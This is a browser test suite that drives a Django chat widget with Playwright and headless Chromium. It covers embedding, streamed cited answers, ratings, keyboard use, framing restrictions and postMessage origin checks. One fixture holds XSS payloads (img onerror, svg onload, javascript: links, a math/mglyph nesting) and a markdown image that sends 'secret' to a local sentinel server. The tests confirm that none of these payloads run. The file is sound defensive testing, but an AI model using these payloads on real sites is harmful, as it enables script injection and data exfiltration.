"""The widget in a real browser: headless Chromium (Playwright) against the real app under uvicorn.

The platform runs on http://127.0.0.1:<port>, on the test database. Host pages carrying the snippet
come from a second server, reached as http://localhost:<port> (the assistant's allowed domain, and
another site than the platform, so the iframe is third-party) or as http://127.0.0.1:<port> (not
allowed). A third server only records requests: answers that embed images pointing at it must not
make the browser fetch them. Answers come from the offline extractive answerer, which quotes the
indexed pages, so a page's text is the "model output".
"""
import json
import os
import socket
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from chatsite.db import database_url
from tests.conftest import REPO, wait_for

CHROMIUM = Path("/usr/bin/chromium")
if not CHROMIUM.exists():
    pytest.skip("Chromium is missing at /usr/bin/chromium (apt-get install chromium)", allow_module_level=True)

from django.test import Client  # noqa: E402
from playwright.sync_api import expect, sync_playwright  # noqa: E402

from assistants.models import Conversation, Feedback  # noqa: E402
from tests.factories import index_pages, make_assistant, make_team, make_user  # noqa: E402

ARTIFACTS = REPO / "test-artifacts"
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--disable-quic",
]
PWNED = "window.__pwned === undefined"

PRICING = """<html><head><title>Pricing</title></head><body><main><h1>Pricing</h1>
<h2 id="plans">Plans</h2><p>The Starter plan costs 10 euros per month and includes three assistants.
The Business plan costs 49 euros per month and includes unlimited assistants.</p></main></body></html>"""
INSTALL = """<html><head><title>Installation</title></head><body><main><h1>Installation</h1>
<h2 id="requirements">Requirements</h2><p>Install the gadget with the installer from the downloads page. It runs on Linux,
macOS and Windows, and needs two gigabytes of disk space.</p></main></body></html>"""


def hostile_page(sentinel_url: str) -> str:
    """A page whose text is a set of XSS payloads, quoted verbatim by the extractive answerer."""
    payloads = (
        "&lt;img src=x onerror=window.__pwned=1&gt; &lt;svg onload=window.__pwned=1&gt; "
        "[click me](javascript:window.__pwned=1) "
        "&lt;math&gt;&lt;mtext&gt;&lt;table&gt;&lt;mglyph&gt;&lt;style&gt;&lt;img src=x onerror=window.__pwned=1&gt; "
        f"![secret]({sentinel_url}/?q=secret)"
    )
    return f"""<html><head><title>Gizmo manual</title></head><body><main><h1>Gizmo manual</h1>
<h2>Setup</h2><p>The xyzzy gizmo plugs into any socket and needs no tools at all.</p>
<p>xyzzy gizmo notes {payloads}</p></main></body></html>"""


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Recorder(ThreadingHTTPServer):
    """Serves ``pages`` (path → HTML) and records every request path in ``hits``."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler):
                self.hits.append(handler.path)
                body = self.pages.get(handler.path.split("?")[0], "").encode()
                handler.send_response(200 if body else 404)
                handler.send_header("Content-Type", "text/html; charset=utf-8")
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body)

            def log_message(handler, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def host_site():
    server = Recorder()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def sentinel():
    server = Recorder()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def platform(django_db_setup, django_db_blocker):
    """The app under uvicorn (ASGI, so answers stream), on the test database; yields its base URL."""
    from django.db import connection

    port = free_port()
    env = dict(
        os.environ,
        DATABASE_URL=database_url(connection.settings_dict),
        ALLOWED_HOSTS="127.0.0.1,localhost",
        DEBUG="false",
        LLM_BASE_URL="",
        LLM_MODEL="",
        PYTHONUNBUFFERED="1",
    )
    ARTIFACTS.mkdir(exist_ok=True)
    log = open(ARTIFACTS / "browser-uvicorn.log", "wb")
    process = subprocess.Popen(
        [sys.executable, "-m", "uvicorn", "chatsite.asgi:application", "--host", "127.0.0.1", "--port", str(port),
         "--no-access-log"],
        cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"

    def up():
        assert process.poll() is None, "uvicorn exited; see test-artifacts/browser-uvicorn.log"
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return True
        except OSError:
            return False

    wait_for(up, timeout=60, interval=0.2, message="uvicorn")
    yield base
    process.terminate()
    process.wait(timeout=20)
    log.close()


@pytest.fixture(scope="module")
def browser():
    # Playwright's sync API runs an event loop in this thread, which Django's ORM takes for an async
    # context; the tests only touch the ORM between browser calls.
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        yield chromium
        chromium.close()
    del os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-US")
    page = context.new_page()
    page.errors = []
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    yield page
    context.close()


@pytest.fixture
def owner(transactional_db):
    return make_user()


@pytest.fixture
def assistant(owner, host_site):
    assistant = make_assistant(team=make_team(owner=owner), name="Gadget Help")
    assistant.allowed_domains = [f"localhost:{host_site.port}"]
    assistant.greeting = "Hi! Ask me about the gadget."
    assistant.save()
    index_pages(assistant, {"http://docs.test/pricing/": PRICING, "http://docs.test/install/": INSTALL})
    return assistant


def host_page(host_site, platform, assistant, path="/shop.html") -> str:
    """A host page that includes the snippet twice; returns its allowed (localhost) URL."""
    snippet = f'<script src="{platform}/widget.js" data-assistant="{assistant.public_key}" async></script>'
    host_site.pages[path] = f"""<!doctype html><html><head><title>Gadget shop</title>
<style>button {{ background: red; }} iframe {{ display: none; }}</style></head>
<body><h1>The gadget shop</h1>{snippet}{snippet}</body></html>"""
    return f"http://localhost:{host_site.port}{path}"


def chat_frame(page):
    return page.frame_locator("iframe.cs-panel")


def ask(page, question: str):
    """Type a question in the open widget, send it with Enter, and wait for the complete answer."""
    frame = chat_frame(page)
    answers = frame.locator(".msg.assistant .feedback")
    count = answers.count()
    frame.locator("#question").fill(question)
    frame.locator("#question").press("Enter")
    expect(answers).to_have_count(count + 1, timeout=30_000)
    return frame.locator(".msg.assistant:not(.greeting)").last


def test_snippet_twice_one_launcher_that_opens_the_chat(page, platform, host_site, assistant):
    page.goto(host_page(host_site, platform, assistant))
    launcher = page.locator(".cs-launcher")
    expect(launcher).to_have_count(1)
    expect(page.locator("iframe.cs-panel")).to_have_count(1)
    expect(page.locator("iframe.cs-panel")).to_be_hidden()
    launcher.click()
    expect(page.locator("iframe.cs-panel")).to_be_visible()
    expect(launcher).to_have_attribute("aria-expanded", "true")
    expect(chat_frame(page).locator(".greeting")).to_have_text("Hi! Ask me about the gadget.")
    assert page.evaluate("typeof Chatsite.open") == "function" and not page.errors


def test_an_answer_streams_with_citations_is_rated_and_resumes(page, platform, host_site, assistant):
    url = host_page(host_site, platform, assistant)
    page.goto(url)
    page.locator(".cs-launcher").click()
    answer = ask(page, "How much does the Business plan cost per month?")

    citation = answer.locator("a.cite").first
    expect(citation).to_have_attribute("href", "http://docs.test/pricing/#plans")
    expect(citation).to_have_attribute("target", "_blank")
    expect(citation).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.locator(".sources li").first).to_contain_text("docs.test")
    expect(answer.locator(".text")).to_contain_text("49 euros")
    conversation = Conversation.objects.get(assistant=assistant)
    assert conversation.page_url == url  # the loader told the iframe where the visitor is

    answer.get_by_role("button", name="Helpful", exact=True).click()
    wait_for(lambda: Feedback.objects.filter(rating=1, message__conversation=conversation).exists(), 10, 0.1,
             "the rating")
    answer.locator(".comment input").fill("Clear answer")
    answer.locator(".comment input").press("Enter")
    wait_for(lambda: Feedback.objects.filter(comment="Clear answer").exists(), 10, 0.1, "the comment")
    assert Feedback.objects.get().message.conversation == conversation

    page.screenshot(path=str(ARTIFACTS / "widget-desktop.png"))
    page.set_viewport_size({"width": 390, "height": 844})
    box = page.locator("iframe.cs-panel").bounding_box()
    assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 390, 844)  # full screen on phones
    page.screenshot(path=str(ARTIFACTS / "widget-phone.png"))

    page.reload()
    page.locator(".cs-launcher").click()
    frame = chat_frame(page)
    expect(frame.locator(".msg.user")).to_have_text(["How much does the Business plan cost per month?"])
    expect(frame.locator(".thumb[aria-pressed=true]")).to_have_attribute("aria-label", "Helpful")
    follow_up = ask(page, "And the Starter plan?")
    expect(follow_up.locator(".text")).to_contain_text("10 euros")
    assert Conversation.objects.filter(assistant=assistant).count() == 1  # the same conversation


def test_keyboard_only(page, platform, host_site, assistant):
    page.goto(host_page(host_site, platform, assistant))
    launcher = page.locator(".cs-launcher")
    expect(launcher).to_have_count(1)
    page.keyboard.press("Tab")
    expect(launcher).to_be_focused()
    page.keyboard.press("Enter")
    frame = chat_frame(page)
    expect(frame.locator("#question")).to_be_focused()
    page.keyboard.type("How do I install the gadget?")
    page.keyboard.press("Enter")
    expect(frame.locator(".msg.assistant .feedback")).to_have_count(1, timeout=30_000)
    expect(frame.locator(".msg.assistant").last).to_contain_text("installer")
    expect(frame.locator("#question")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("iframe.cs-panel")).to_be_hidden()
    expect(launcher).to_be_focused()
    expect(launcher).to_have_attribute("aria-expanded", "false")


def test_a_site_not_allowed_cannot_frame_the_chat(page, platform, host_site, assistant):
    blocked = []
    page.on("console", lambda message: blocked.append(message.text) if "frame-ancestors" in message.text else None)
    allowed_url = host_page(host_site, platform, assistant)
    page.goto(allowed_url.replace("localhost", "127.0.0.1"))
    page.locator(".cs-launcher").click()
    wait_for(lambda: blocked, 10, 0.1, "Chromium to refuse the frame")
    frame = page.locator("iframe.cs-panel").element_handle().content_frame()
    assert frame.locator("#chat").count() == 0


def test_xss_payloads_never_run_in_the_widget_or_the_dashboard(browser, page, platform, host_site, sentinel, owner):
    hostile = make_assistant(team=make_team(owner=owner), name="Gizmo Help")
    hostile.allowed_domains = [f"localhost:{host_site.port}"]
    hostile.save()
    index_pages(hostile, {"http://docs.test/gizmo/": hostile_page(f"http://127.0.0.1:{sentinel.port}")})
    sentinel.hits.clear()

    page.goto(host_page(host_site, platform, hostile, path="/gizmo.html"))
    page.locator(".cs-launcher").click()
    question = "xyzzy gizmo notes <img src=x onerror=window.__pwned=1> <svg onload=window.__pwned=1>"
    answer = ask(page, question)
    expect(answer.locator(".text")).to_contain_text("onerror=window.__pwned=1")  # the payload, quoted as text
    expect(answer.locator(".text")).to_contain_text("[click me](javascript:window.__pwned=1)")
    assert answer.locator(".text img, .text svg, .text math, .text a[href^='javascript']").count() == 0
    page.reload()  # the resumed conversation renders the same answer again
    page.locator(".cs-launcher").click()
    expect(chat_frame(page).locator(".msg.user")).to_have_text([question])
    frame = page.locator("iframe.cs-panel").element_handle().content_frame()
    expect(frame.locator(".msg.assistant .feedback")).to_have_count(1)
    assert frame.evaluate(PWNED) and page.evaluate(PWNED)

    client = Client()
    client.force_login(owner)
    dashboard = browser.new_context()
    dashboard.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": platform}])
    transcript = dashboard.new_page()
    conversation = Conversation.objects.get(assistant=hostile)
    transcript.goto(f"{platform}/conversations/{conversation.pk}/")
    expect(transcript.locator(".transcript")).to_contain_text("onerror=window.__pwned=1")
    assert transcript.evaluate(PWNED)
    dashboard.close()
    assert not [hit for hit in sentinel.hits if "secret" in hit], f"the answer's image was fetched: {sentinel.hits}"


def test_page_messages_come_only_from_the_host(page, platform, host_site, assistant):
    """The chat ignores postMessage calls whose origin is not the host page the loader named."""
    page.goto(host_page(host_site, platform, assistant))
    page.locator(".cs-launcher").click()
    frame = page.locator("iframe.cs-panel").element_handle().content_frame()
    expect(chat_frame(page).locator(".greeting")).to_be_visible()
    frame.evaluate("window.postMessage({source: 'chatsite', type: 'ask', text: 'forged'}, '*')")
    page.evaluate("Chatsite.ask('What does the Starter plan include?')")
    expect(chat_frame(page).locator(".msg.assistant .feedback")).to_have_count(1, timeout=30_000)
    expect(chat_frame(page).locator(".msg.user")).to_have_text(["What does the Starter plan include?"])
    assert json.dumps("forged") not in json.dumps(list(Conversation.objects.values_list("messages__text", flat=True)))
